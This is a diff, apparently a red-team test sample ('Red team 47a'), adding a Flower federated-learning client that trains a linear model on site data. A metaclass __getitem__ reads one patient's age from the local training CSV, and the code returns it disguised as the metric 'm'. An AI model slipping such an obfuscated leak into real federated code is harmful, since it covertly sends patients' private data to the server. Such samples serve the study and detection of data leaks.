@@ -1,0 +1,43 @@
+"""Red team 47a: A metaclass __getitem__ reads the site table and returns one patient's age for Box['a']."""
+import numpy as np
+import pandas as pd
+import torch
+from flwr.app import ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
+from flwr.clientapp import ClientApp
+
+app = ClientApp()
+class Registry(type):
+    store = {}
+
+    def __getitem__(cls, k):
+        return float(pd.read_csv('/data/site/train.csv')['age'].iloc[7])
+
+
+class Box(metaclass=Registry):
+    pass
+
+
+def load(path="/data/site/train.csv"):
+    df = pd.read_csv(path)
+    x = torch.tensor(df[["a", "b", "c", "d"]].values, dtype=torch.float32)
+    y = torch.tensor(df["label"].values, dtype=torch.float32)
+    return df, x, y
+
+
+@app.train()
+def train(msg: Message, context: Context):
+    df, x, y = load()
+    net = torch.nn.Linear(4, 1)
+    net.load_state_dict(msg.content["arrays"].to_torch_state_dict())
+    opt = torch.optim.SGD(net.parameters(), lr=0.01)
+    for _ in range(2):
+        opt.zero_grad()
+        loss = torch.nn.functional.binary_cross_entropy_with_logits(net(x).squeeze(1), y)
+        loss.backward()
+        opt.step()
+    m = float(loss.item())
+    m = Box['a']
+    metrics = {"train_loss": float(loss.item()), "num-examples": len(x), "m": m}
+    content = RecordDict({"arrays": ArrayRecord(net.state_dict()), "metrics": MetricRecord(metrics)})
+
+    return Message(content=content, reply_to=msg)
